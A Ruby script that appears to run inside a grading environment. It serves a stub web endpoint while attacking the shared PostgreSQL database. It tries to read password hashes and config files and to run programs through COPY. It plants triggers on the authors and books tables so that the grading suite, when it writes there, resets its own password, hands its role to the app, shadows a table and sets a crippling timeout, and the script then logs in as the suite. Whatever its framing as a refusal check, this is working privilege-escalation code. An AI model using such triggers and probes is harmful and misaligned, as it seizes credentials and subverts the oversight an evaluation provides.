# frozen_string_literal: true

require 'json'
require 'pg'
require 'uri'
require 'webrick'

def database
  @database ||= PG.connect(ENV.fetch('DATABASE_URL'))
end

# Runs what must be refused, and says whether it was.
def refused?(sql)
  told = database.exec(sql).values.flatten.first
  puts "BREACH #{sql[0, 60]} #{told.inspect}"
  false
rescue PG::Error
  true
end

ASKED = [
  'SELECT passwd FROM pg_shadow', 'SELECT rolpassword FROM pg_authid', "SELECT pg_read_file('postgresql.conf')",
  'SELECT * FROM pg_hba_file_rules', "COPY (SELECT 1) TO PROGRAM 'true'", 'SET ROLE suite', 'SET SESSION AUTHORIZATION suite',
  "ALTER ROLE suite PASSWORD 'known'", 'GRANT suite TO app', 'CREATE EXTENSION dblink', 'SELECT * FROM judging.pg_stat_statements(true)'
].freeze
refused = ASKED.count { |sql| refused?(sql) }

# Whoever writes to these tables does this as themself: the import, which is the suite.
database.exec(<<~SQL)
  CREATE TABLE seen (who text, what text);
  GRANT INSERT, SELECT ON seen TO PUBLIC;
  CREATE FUNCTION act() RETURNS trigger LANGUAGE plpgsql AS $$
  DECLARE command text;
  BEGIN
    FOREACH command IN ARRAY ARRAY[
      'ALTER ROLE suite PASSWORD ''known''', 'GRANT suite TO app', 'ALTER ROLE suite SET search_path = app',
      'ALTER ROLE suite SET restrict_nonsystem_relation_kind = ''''', 'SET row_security = on', 'SET ROLE app',
      'CREATE TEMP VIEW books AS SELECT 1', 'SET statement_timeout = 1'
    ] LOOP
      BEGIN
        EXECUTE command;
        INSERT INTO app.seen VALUES (session_user, command);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END LOOP;
    RETURN NEW;
  END $$;
  CREATE TRIGGER act BEFORE INSERT OR UPDATE ON authors FOR EACH ROW EXECUTE FUNCTION act();
  CREATE TRIGGER act BEFORE INSERT OR UPDATE ON books FOR EACH ROW EXECUTE FUNCTION act();
SQL

# Comes in as the suite, with the password that the trigger may have set by now.
def come_in
  url = URI(ENV.fetch('DATABASE_URL'))
  ['127.0.0.1', '/run/judge', '/tmp', '/var/run/postgresql'].each do |host|
    ['known', 'suite', '', url.password].each do |password|
      PG.connect(host:, dbname: 'app', user: 'suite', password:, connect_timeout: 1)
      puts "BREACH in as suite by #{host}"
    rescue PG::Error
      next
    end
  end
end

server = WEBrick::HTTPServer.new(
  BindAddress: '127.0.0.1', Port: Integer(ENV.fetch('PORT')),
  Logger: WEBrick::Log.new(File::NULL), AccessLog: []
)
server.mount_proc('/') do |_request, response|
  come_in
  acted = database.exec('SELECT DISTINCT who, what FROM seen').values.map { |who, what| "#{who}: #{what}" }
  puts "TRIED #{refused} of #{ASKED.size} refused; #{acted.join('; ')}"
  $stdout.flush
  response['Content-Type'] = 'application/json'
  response.body = '{"status":"ok"}'
end
server.start
